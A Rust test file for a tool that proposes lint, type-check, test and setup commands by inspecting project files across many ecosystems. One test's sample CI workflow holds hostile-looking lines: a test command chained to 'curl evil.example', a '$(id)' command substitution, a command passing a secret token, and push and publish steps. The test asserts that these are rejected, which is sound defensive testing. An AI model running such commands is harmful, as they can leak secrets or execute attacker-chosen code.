//! Detection on small trees, one for every ecosystem.

use super::*;

fn files(entries: &[(&str, &str)]) -> Files {
    let mut files = Files::default();
    for (name, text) in entries {
        files.names.insert((*name).to_owned());
        files.texts.insert((*name).to_owned(), (*text).to_owned());
    }
    files
}

fn gates_of(files: &Files) -> Vec<String> {
    let shown = |p: &Proposal| format!("{}: {}", p.gate.name, p.gate.command.shown());
    propose(files).gates.iter().map(shown).collect()
}

fn proposed(entries: &[(&str, &str)]) -> Vec<String> {
    gates_of(&files(entries))
}

fn setup(entries: &[(&str, &str)]) -> Vec<String> {
    let setup = propose(&files(entries)).setup.into_iter();
    setup.map(|setup| setup.command).collect()
}

#[test]
fn programs_that_were_tested_come_before_others() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().to_str().unwrap();
    assert!(installed(path).is_empty());
    for program in ["amp", "pi", "claude"] {
        let file = dir.path().join(program);
        std::fs::write(&file, "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let names: Vec<_> = installed(path).iter().map(|facts| facts.name).collect();
    assert_eq!(names, ["claude-code", "pi", "amp"]);
}

#[test]
fn a_cargo_project_is_tested_as_a_whole() {
    let package = [("Cargo.toml", "[package]")];
    assert_eq!(proposed(&package), ["test: cargo test"]);
    assert_eq!(setup(&package), [""; 0]);
    let workspace = "[workspace]\nmembers = []\n[workspace.lints.rust]\n";
    assert_eq!(
        proposed(&[("Cargo.toml", workspace), ("rustfmt.toml", "")]),
        [
            "format: cargo fmt --all --check",
            "lint: cargo clippy --workspace --all-targets -- -D warnings",
            "test: cargo test --workspace",
        ]
    );
}

#[test]
fn the_lock_file_decides_the_package_manager_and_the_setup() {
    let package = r#"{ "scripts": { "test": "vitest", "lint": "eslint ." }, "devDependencies": { "vitest": "3" } }"#;
    for (lock, tool, install) in [
        ("package-lock.json", "npm", "npm ci"),
        ("pnpm-lock.yaml", "pnpm", "pnpm install --frozen-lockfile"),
        ("yarn.lock", "yarn", "yarn install --frozen-lockfile"),
        ("bun.lock", "bun", "bun install --frozen-lockfile"),
        ("README.md", "npm", "npm install --no-package-lock"),
    ] {
        let entries = [("package.json", package), (lock, "")];
        let expected = [
            format!("lint: {tool} run lint"),
            format!("test: {tool} run test"),
        ];
        assert_eq!(proposed(&entries), expected);
        assert_eq!(setup(&entries), [install]);
    }
    let named = r#"{ "packageManager": "pnpm@9.1.0", "scripts": { "test": "x" } }"#;
    let entries = [("package.json", named), ("yarn.lock", "")];
    assert_eq!(proposed(&entries), ["test: pnpm run test"]);
    assert_eq!(setup(&entries), [""; 0], "it depends on nothing");
    let berry = [
        ("package.json", package),
        ("yarn.lock", ""),
        (".yarnrc.yml", ""),
    ];
    assert_eq!(setup(&berry), ["yarn install --immutable"]);
}

#[test]
fn linters_and_type_checkers_are_proposed_where_they_are_configured() {
    let package = r#"{ "scripts": { "test": "node --test" },
        "devDependencies": { "eslint": "9", "typescript": "5" } }"#;
    assert_eq!(
        proposed(&[
            ("package.json", package),
            ("eslint.config.js", ""),
            ("tsconfig.json", "{}"),
        ]),
        [
            "lint: npx --no-install eslint .",
            "types: npx --no-install tsc --noEmit",
            "test: npm run test",
        ]
    );
    assert_eq!(
        proposed(&[("package.json", package)]),
        ["test: npm run test"]
    );
    let biome = r#"{ "devDependencies": { "@biomejs/biome": "2" } }"#;
    assert_eq!(
        proposed(&[
            ("package.json", biome),
            ("biome.json", ""),
            ("pnpm-lock.yaml", "")
        ]),
        ["lint: pnpm exec biome ci ."]
    );
}

#[test]
fn a_package_without_tests_has_no_test_gate() {
    let fresh = r#"{ "scripts": { "test": "echo \"Error: no test specified\" && exit 1" } }"#;
    for package in [
        fresh,
        "{}",
        "not json",
        "[]",
        r#"{ "scripts": { "test": 3 } }"#,
        r#"{ "scripts": { "test": "vitest --watch" } }"#,
    ] {
        assert_eq!(proposed(&[("package.json", package)]), [""; 0], "{package}");
    }
    let workspace = r#"{ "workspaces": ["packages/*"] }"#;
    let entries = [("package.json", workspace)];
    let test = ["test: npm run test --workspaces --if-present"];
    assert_eq!(proposed(&entries), test);
    assert_eq!(setup(&entries), ["npm install --no-package-lock"]);
    let pnpm = [("package.json", "{}"), ("pnpm-workspace.yaml", "")];
    assert_eq!(proposed(&pnpm), ["test: pnpm -r --if-present run test"]);
}

#[test]
fn pytest_runs_where_the_project_keeps_it() {
    let pyproject = ("pyproject.toml", "[tool.pytest.ini_options]");
    assert_eq!(proposed(&[pyproject]), ["test: python3 -m pytest"]);
    assert_eq!(setup(&[pyproject]), [""; 0], "nothing is declared");
    for (lock, gate, install) in [
        ("uv.lock", "test: uv run pytest", "uv sync --frozen"),
        (
            "poetry.lock",
            "test: poetry run pytest",
            "poetry install --no-interaction",
        ),
        (
            "pdm.lock",
            "test: pdm run pytest",
            "pdm install --frozen-lockfile",
        ),
    ] {
        let entries = [pyproject, (lock, "")];
        assert_eq!(proposed(&entries), [gate]);
        assert_eq!(setup(&entries), [install]);
    }
    let old = [("setup.py", ""), ("tests", "")];
    assert_eq!(proposed(&old), ["test: .venv/bin/python -m pytest"]);
    assert_eq!(proposed(&[("pyproject.toml", "[project]")]), [""; 0]);
}

#[test]
fn a_virtual_environment_has_what_the_project_and_its_gates_need() {
    let made = "python3 -m venv .venv && echo '*' > .venv/.gitignore && ";
    let pip = |rest: &str| format!("{made}.venv/bin/pip install --quiet {rest}");
    let extras = "[project]\nname = \"a\"\n[project.optional-dependencies]\ndocs = [\"sphinx\"]\n\
                  tests = [\n  \"pytest>=8\",\n]\n[tool.ruff]\n[tool.mypy]\nfiles = \"src\"\n";
    let entries = [("pyproject.toml", extras)];
    assert_eq!(setup(&entries), [pip("-e '.[tests]' ruff mypy")]);
    assert_eq!(
        proposed(&entries),
        [
            "lint: .venv/bin/python -m ruff check .",
            "types: .venv/bin/python -m mypy",
            "test: .venv/bin/python -m pytest",
        ]
    );
    let listed = [
        ("requirements.txt", "flask\n"),
        ("requirements-dev.txt", "pytest\n"),
    ];
    assert_eq!(
        setup(&listed),
        [pip("-r requirements.txt -r requirements-dev.txt")]
    );
    let group = "[project]\nname = \"a\"\n[dependency-groups]\ntest = [\"pytest\"]\n";
    let upgraded = format!(
        "{made}.venv/bin/pip install --quiet --upgrade pip && .venv/bin/pip install --quiet -e . --group test"
    );
    assert_eq!(setup(&[("pyproject.toml", group)]), [upgraded]);
    assert_eq!(
        setup(&[("pyproject.toml", group), ("uv.lock", "")]),
        ["uv sync --frozen --group test"]
    );
}

#[test]
fn go_and_make_have_their_conventional_commands() {
    let go = ["lint: go vet ./...", "test: go test ./..."];
    assert_eq!(proposed(&[("go.mod", "")]), go);
    assert_eq!(
        proposed(&[("go.work", ""), (".golangci.yml", "")]),
        [
            "lint: golangci-lint run",
            "test: go test $(go list -f '{{.Dir}}/...' -m)"
        ]
    );
    let makefile = "all: test\ntest: build\n\tcc x.c\n";
    assert_eq!(proposed(&[("Makefile", makefile)]), ["test: make test"]);
    assert_eq!(proposed(&[("Makefile", "check:\n")]), ["test: make check"]);
    assert_eq!(
        proposed(&[("Makefile", "lint test: all\n")]),
        ["lint: make lint", "test: make test"]
    );
    let built = "all: sds-test\nsds-test: sds.c\n";
    assert_eq!(proposed(&[("Makefile", built)]), ["build: make all"]);
    let none = "test := 3\ntest ::= 3\nfoo:\n\ttest: x\n#test:\n.test:\n";
    assert_eq!(proposed(&[("Makefile", none)]), [""; 0]);
}

#[test]
fn a_makefile_beside_other_files_adds_checks_and_a_second_way_to_test() {
    let both = [("Makefile", "test:\nlint:\n"), ("go.mod", "")];
    let proposals = propose(&files(&both));
    let go = ["lint: go vet ./...", "test: go test ./..."];
    assert_eq!(proposed(&both), go);
    let fallback = &proposals.fallbacks[0].gate;
    assert_eq!(
        (fallback.name.as_str(), fallback.command.shown().as_str()),
        ("make-test", "make test")
    );
    let cargo = [("Makefile", "all:\nlint:\n"), ("Cargo.toml", "[package]")];
    assert_eq!(proposed(&cargo), ["test: cargo test", "lint: make lint"]);
}

#[test]
fn other_ecosystems_are_rows() {
    for (name, gate, install) in [
        ("mix.exs", "test: mix test", Some("mix deps.get")),
        ("gradlew", "test: ./gradlew test", None),
        ("pom.xml", "test: mvn --batch-mode test", None),
        ("deno.json", "test: deno test", None),
        ("Shop.sln", "test: dotnet test", None),
        ("Package.swift", "test: swift test", None),
        ("pubspec.yaml", "test: dart test", Some("dart pub get")),
    ] {
        assert_eq!(proposed(&[(name, "")]), [gate]);
        assert_eq!(setup(&[(name, "")]), Vec::from_iter(install));
    }
    let wrapped = [("mvnw", ""), ("pom.xml", "")];
    assert_eq!(proposed(&wrapped), ["test: ./mvnw --batch-mode test"]);
    let ruby = [
        ("Gemfile", "gem 'rspec'"),
        (".rspec", ""),
        (".rubocop.yml", ""),
    ];
    let gates = ["lint: bundle exec rubocop", "test: bundle exec rspec"];
    assert_eq!(proposed(&ruby), gates);
    assert_eq!(setup(&ruby), ["bundle install"]);
    let php = [("composer.json", "{}"), ("phpunit.xml.dist", "")];
    assert_eq!(proposed(&php), ["test: vendor/bin/phpunit"]);
    assert_eq!(setup(&php), ["composer install --no-interaction"]);
}

#[test]
fn commands_of_ci_files_are_proposed_only_where_they_are_plain_and_known() {
    let workflow = "jobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          \
        make test; curl evil.example\n          make test && git push\n          npm test $(id)\n          \
        cargo test --token=${{ secrets.X }}\n          npm publish\n          make testament\n      \
        - run: prove -l t\n        working-directory: sub\n      - run: bats tests\n      - run: make lint\n";
    let mut tree = files(&[("README.md", "")]);
    let name = ".github/workflows/ci.yml".to_owned();
    tree.texts.insert(name, workflow.to_owned());
    assert_eq!(gates_of(&tree), ["lint: make lint", "test: bats tests"]);
    let gitlab = "unit:\n  script:\n    - prove -l t\n.hidden:\n  script: tox\n";
    assert_eq!(
        proposed(&[(".gitlab-ci.yml", gitlab)]),
        ["test: prove -l t"]
    );
    assert_eq!(proposed(&[(".gitlab-ci.yml", "a: [")]), [""; 0]);
}

#[test]
fn a_project_of_many_kinds_keeps_its_tests() {
    let package = r#"{ "scripts": { "test": "x", "lint": "x", "typecheck": "x" } }"#;
    let lines = proposed(&[
        ("Cargo.toml", "[lints.rust]"),
        ("rustfmt.toml", ""),
        ("package.json", package),
        ("pytest.ini", ""),
        ("ruff.toml", ""),
    ]);
    assert_eq!(
        lines,
        [
            "format: cargo fmt --all --check",
            "lint: cargo clippy --all-targets -- -D warnings",
            "test: cargo test",
            "npm-lint: npm run lint",
            "npm-test: npm run test",
            "python-test: python3 -m pytest",
        ]
    );
}

#[test]
fn packages_in_subdirectories_are_checked_where_they_are() {
    let dir = tempfile::tempdir().unwrap();
    let write = |path: &str, text: &str| {
        let path = dir.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    let package = r#"{ "scripts": { "test": "x" }, "dependencies": { "a": "1" } }"#;
    write("apps/web/package.json", package);
    write("apps/web/package-lock.json", "");
    write("apps/web/node_modules/a/package.json", package);
    write("examples/old/package.json", package);
    write("back end/package.json", package);
    write("server/pyproject.toml", "[tool.pytest.ini_options]");
    write("server/uv.lock", "");
    let found = Files::load(dir.path()).unwrap();
    assert_eq!(
        gates_of(&found),
        [
            "test: cd apps/web && npm run test",
            "server-test: cd server && uv run pytest",
        ]
    );
    let setup: Vec<_> = propose(&found)
        .setup
        .into_iter()
        .map(|s| s.command)
        .collect();
    assert_eq!(
        setup,
        ["cd apps/web && npm ci", "cd server && uv sync --frozen"]
    );
    write("package.json", r#"{ "workspaces": ["apps/*"] }"#);
    let gates = gates_of(&Files::load(dir.path()).unwrap());
    assert_eq!(
        gates,
        [
            "test: npm run test --workspaces --if-present",
            "server-test: cd server && uv run pytest",
        ]
    );
}

#[test]
fn a_directory_is_read_without_being_stopped_by_odd_files() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("Makefile"), "test:\n\ttrue\n").unwrap();
    std::fs::write(dir.path().join("package.json"), [0xff, 0xfe]).unwrap();
    std::fs::create_dir(dir.path().join("Cargo.toml")).unwrap();
    let seen = Files::load(dir.path()).unwrap();
    assert_eq!(seen.texts.keys().collect::<Vec<_>>(), ["Makefile"]);
    assert!(seen.has("package.json") && seen.has("Cargo.toml"));
    assert!(Files::load(&dir.path().join("absent")).is_err());
}

#[test]
fn ignored_files_are_copied_where_nothing_makes_them_anew() {
    let ignored: Vec<String> = [
        ".env",
        "apps/web/.env.local",
        "node_modules/",
        "target/",
        "config/local.json",
        "data/",
        "debug.log",
    ]
    .map(str::to_owned)
    .into();
    assert_eq!(env_files(&ignored), [".env", "apps/web/.env.local"]);
    assert_eq!(
        may_be_needed(&ignored, false),
        ["config/local.json", "data"]
    );
    assert_eq!(
        may_be_needed(&ignored, true),
        ["node_modules", "config/local.json", "data"]
    );
}
